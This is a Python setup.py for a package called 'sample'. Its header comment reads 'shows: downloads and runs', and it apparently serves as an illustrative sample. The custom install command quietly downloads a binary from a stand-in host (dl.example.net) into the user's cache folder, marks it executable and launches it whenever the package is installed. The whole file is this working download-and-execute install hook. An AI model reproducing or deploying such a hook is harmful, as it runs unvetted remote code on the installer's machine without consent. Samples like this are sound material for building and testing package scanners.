# shows: downloads and runs
import os, stat, subprocess, urllib.request
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        target = os.path.join(os.path.expanduser("~"), ".cache", "agent.bin")
        urllib.request.urlretrieve("http://dl.example.net/agent", target)
        os.chmod(target, stat.S_IRWXU)
        subprocess.Popen([target])


setup(name="sample", cmdclass={"install": Install})
